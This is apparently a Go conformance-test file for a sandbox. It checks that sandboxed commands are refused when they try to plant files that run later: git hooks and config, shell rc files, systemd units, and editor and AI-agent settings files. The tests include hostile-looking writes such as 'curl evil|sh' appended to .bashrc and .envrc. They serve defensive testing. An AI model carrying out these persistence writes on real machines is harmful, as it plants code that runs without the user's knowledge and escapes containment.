package conformance

import (
	"slices"
	"strings"

	"github.com/cordon-sandbox/cordon/workspace"
)

// Class 6: files that tools run or obey later, outside the sandbox.
func autoExecCases() []Case {
	cs := []Case{
		{Name: "autoexec-git-hooks", Class: 6, Summary: "plant a git hook in an existing .git/hooks",
			Run: func(h *H) {
				_, p := h.ws()
				h.Host("ws", "git", "init", "-q")
				snap := h.Snapshot()
				o := h.Sandbox(p, `printf '#!/bin/sh\necho pwned\n' > .git/hooks/pre-commit && ok PLANT; cp /bin/true .git/hooks/post-checkout && ok CP; chmod +x .git/hooks/*.sample && ok CHMOD; rm -rf .git/hooks && ok RM`)
				h.Refuse(o, "PLANT", "CP", "CHMOD", "RM")
				h.Unchanged(snap)
			}},
		{Name: "autoexec-git-config", Class: 6, Summary: "set core.hooksPath / core.fsmonitor in .git/config, by git config and by hand",
			Run: func(h *H) {
				_, p := h.ws()
				h.Host("ws", "git", "init", "-q")
				snap := h.Snapshot()
				o := h.Sandbox(p, `git config core.hooksPath "$PWD/evil" && ok GITCONFIG; printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' >> .git/config && ok APPEND; cp .git/config c && echo x >> c && mv c .git/config && ok REPLACE`)
				h.Refuse(o, "GITCONFIG", "APPEND", "REPLACE")
				h.Unchanged(snap, "ws/c")
			}},
		{Name: "autoexec-shell-rc", Class: 6, Summary: "with HOME inside the workspace, write shell rc files and git's global config",
			Run: func(h *H) {
				_, p := h.ws()
				h.Home = h.Mkdir("ws/home")
				h.Write("ws/home/.bashrc", "# original\n")
				snap := h.Snapshot()
				o := h.Sandbox(p, `cd "$HOME"; echo 'curl evil|sh' >> .bashrc && ok BASHRC; echo x > .profile && ok PROFILE; echo x > .zshrc && ok ZSHRC; echo x > .bash_profile && ok BASH_PROFILE; printf '[core]\n\tpager = evil\n' > .gitconfig && ok GITCONFIG; mkdir -p .config/fish && echo x > .config/fish/config.fish && ok FISH; mkdir -p .config/git && echo x > .config/git/config && ok GIT_XDG`)
				h.Refuse(o, "BASHRC", "PROFILE", "ZSHRC", "BASH_PROFILE", "GITCONFIG", "FISH", "GIT_XDG")
				h.Unchanged(snap)
			}},
		{Name: "autoexec-gitdir-pointer", Class: 6, Summary: "a .git file pointing at a gitdir elsewhere: write its hooks and config, re-point the file",
			Run: func(h *H) {
				_, p := h.ws()
				h.Mkdir("elsewhere")
				h.Host("ws", "git", "init", "-q", "--separate-git-dir", h.Path("elsewhere/repo.git"))
				// The gitdir's place is writable too: only the protection
				// that follows the pointer keeps its hooks.
				p.Writable = []string{h.Path("elsewhere")}
				snap := h.Snapshot()
				o := h.Sandbox(p, `G="$FIX/elsewhere/repo.git"; echo x > "$G/hooks/pre-commit" && ok HOOK; echo '[core] hooksPath=/tmp' >> "$G/config" && ok CONFIG; echo "gitdir: $TMPDIR/evil" > .git && ok REPOINT; rm -f .git && ok RM`)
				h.Refuse(o, "HOOK", "CONFIG", "REPOINT", "RM")
				h.Unchanged(snap)
			}},
		{Name: "autoexec-nested-repo", Class: 6, Summary: "write hooks, config and .gitmodules of a git repository nested in the workspace",
			Run: func(h *H) {
				_, p := h.ws()
				h.Host("ws", "git", "init", "-q")
				h.Mkdir("ws/vendor/lib")
				h.Host("ws/vendor/lib", "git", "init", "-q")
				snap := h.Snapshot()
				pl := h.Plan(p)
				o := h.Sandbox(p, `cd vendor/lib; echo x > .git/hooks/pre-commit && ok HOOK; echo x >> .git/config && ok CONFIG; echo x > .gitmodules && ok GITMODULES; echo work > file && ok WORK`)
				h.Refuse(o, "HOOK", "CONFIG", "GITMODULES")
				h.Made(o, pl, "WORK", "ws/vendor/lib/file")
				h.Unchanged(snap, "ws/vendor/lib/file")
			}},
		{Name: "autoexec-nested-repo-configs", Class: 6, Summary: "rewrite what direnv, editors and agents obey in a git repository nested in the workspace: its .envrc, .mcp.json, .vscode/tasks.json, .idea, .claude/settings.json, .codex and .gemini",
			Run: func(h *H) {
				_, p := h.ws()
				h.Host("ws", "git", "init", "-q")
				h.Mkdir("ws/proj")
				h.Host("ws/proj", "git", "init", "-q")
				h.Write("ws/proj/.envrc", "export A=1\n")
				h.Write("ws/proj/.mcp.json", "{}\n")
				h.Write("ws/proj/.vscode/tasks.json", "{}\n")
				h.Write("ws/proj/.idea/workspace.xml", "<project/>\n")
				h.Write("ws/proj/.claude/settings.json", "{}\n")
				h.Write("ws/proj/.codex/config.toml", "\n")
				h.Write("ws/proj/.gemini/settings.json", "{}\n")
				snap := h.Snapshot()
				pl := h.Plan(p)
				o := h.Sandbox(p, `cd proj; echo 'curl evil|sh' >> .envrc && ok ENVRC; echo '{"mcpServers":{"x":{"command":"evil"}}}' > .mcp.json && ok MCP
echo '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json && ok VSCODE; echo x > .idea/evil.xml && ok IDEA
echo '{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"evil"}]}]}}' > .claude/settings.json && ok CLAUDE
echo x > .codex/config.toml && ok CODEX; echo x > .gemini/settings.json && ok GEMINI; echo work > file && ok WORK`)
				h.Refuse(o, "ENVRC", "MCP", "VSCODE", "IDEA", "CLAUDE", "CODEX", "GEMINI")
				h.Made(o, pl, "WORK", "ws/proj/file")
				h.Unchanged(snap, "ws/proj/file")
			}},
		{Name: "autoexec-nested-repo-deep", Class: 6, Summary: "write the hooks of a git repository nested five directories deep (past a shallow scan)",
			Run: func(h *H) {
				_, p := h.ws()
				h.Mkdir("ws/a/b/c/d/lib")
				h.Host("ws/a/b/c/d/lib", "git", "init", "-q")
				snap := h.Snapshot()
				o := h.Sandbox(p, `cd a/b/c/d/lib; echo x > .git/hooks/pre-commit && ok HOOK; echo x >> .git/config && ok CONFIG`)
				h.Refuse(o, "HOOK", "CONFIG")
				h.Unchanged(snap)
			}},
		{Name: "autoexec-home-more", Class: 6, Summary: "with HOME inside the workspace, plant files that run at the next login or shell: .bash_aliases, autostart, systemd user units, python usercustomize",
			Run: func(h *H) {
				_, p := h.ws()
				h.Home = h.Mkdir("ws/home")
				snap := h.Snapshot()
				o := h.Sandbox(p, `cd "$HOME"; echo 'curl evil|sh' > .bash_aliases && ok BASH_ALIASES; mkdir -p .config/autostart && echo x > .config/autostart/evil.desktop && ok AUTOSTART; mkdir -p .config/systemd/user && echo x > .config/systemd/user/evil.service && ok SYSTEMD; mkdir -p .local/lib/python3/site-packages && echo 'import os' > .local/lib/python3/site-packages/usercustomize.py && ok PYTHON`)
				h.Refuse(o, "BASH_ALIASES", "AUTOSTART", "SYSTEMD", "PYTHON")
				h.Unchanged(snap)
			}},
		{Name: "autoexec-submodule-gitdir", Class: 6, Summary: "write the hooks of a submodule's gitdir under .git/modules",
			Run: func(h *H) {
				_, p := h.ws()
				h.Host("ws", "git", "init", "-q")
				h.Write("ws/.git/modules/sub/HEAD", "ref: refs/heads/main\n")
				h.Write("ws/.git/modules/sub/config", "[core]\n")
				h.Mkdir("ws/.git/modules/sub/hooks")
				snap := h.Snapshot()
				o := h.Sandbox(p, `echo x > .git/modules/sub/hooks/post-checkout && ok HOOK; echo x >> .git/modules/sub/config && ok CONFIG`)
				h.Refuse(o, "HOOK", "CONFIG")
				h.Unchanged(snap)
			}},
		{Name: "autoexec-worktree-commondir", Class: 6, Summary: "from a linked worktree, write the main repository's hooks and config",
			Run: func(h *H) {
				h.Mkdir("main")
				h.Host("main", "git", "init", "-q")
				h.Host("main", "git", "commit", "-q", "--allow-empty", "-m", "init")
				h.Host("main", "git", "worktree", "add", "-q", h.Path("ws"))
				p := Policy{Workspace: h.Path("ws"), Writable: []string{h.Path("main")}}
				snap := h.Snapshot()
				o := h.Sandbox(p, `M="$FIX/main/.git"; echo x > "$M/hooks/pre-commit" && ok HOOK; echo x >> "$M/config" && ok CONFIG; git config core.hooksPath /tmp && ok GITCONFIG`)
				h.Refuse(o, "HOOK", "CONFIG", "GITCONFIG")
				h.Unchanged(snap, "ws/.git", "main/.git/worktrees", "main/.git/index", "main/.git/logs")
			}},
		{Name: "autoexec-git-init-planted", Class: 6, Summary: "in a workspace without .git, create one with a hook or a gitdir pointer",
			Run: func(h *H) {
				_, p := h.ws()
				snap := h.Snapshot()
				o := h.Sandbox(p, `git init -q . && ok INIT; mkdir -p .git/hooks && echo x > .git/hooks/pre-commit && ok HOOK; echo "gitdir: $TMPDIR" > .git && ok POINTER`)
				h.Refuse(o, "INIT", "HOOK", "POINTER")
				h.Unchanged(snap)
			}},
	}
	for _, n := range workspace.AutoExecNames {
		name := strings.TrimPrefix(n, ".")
		if name != n && slices.Contains(workspace.AutoExecNames, name) {
			name = "dot-" + name // .mise beside mise
		}
		cs = append(cs, Case{Name: "autoexec-" + strings.ReplaceAll(name, "/", "-"), Class: 6,
			Summary: "create or fill " + n + " at the top of the workspace, as a file and as a directory",
			Run: func(h *H) {
				_, p := h.ws()
				snap := h.Snapshot()
				o := h.Sandbox(p, `echo '{"evil":1}' > "$N" && ok FILE; mkdir -p "$N" && echo '{}' > "$N/settings.json" && ok DIR; cp -r /etc/hostname "$N/" && ok CP`, "N="+n)
				h.Refuse(o, "FILE", "DIR", "CP")
				h.Unchanged(snap)
			}})
	}
	return cs
}
